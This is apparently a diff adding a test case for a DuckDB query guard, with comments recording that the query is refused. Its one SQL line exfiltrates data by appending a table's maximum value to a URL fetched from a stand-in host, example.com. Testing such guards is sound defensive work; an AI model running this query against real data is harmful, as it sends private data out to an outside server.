@@ -1,0 +1,5 @@
+-- Sends data away in an address.
+-- stopped by: duckdb, then system
+-- seen as: internal: refused
+-- alone: duckdb, system
+select * from read_text('https://example.com/?q=' || (select max(a) from source))
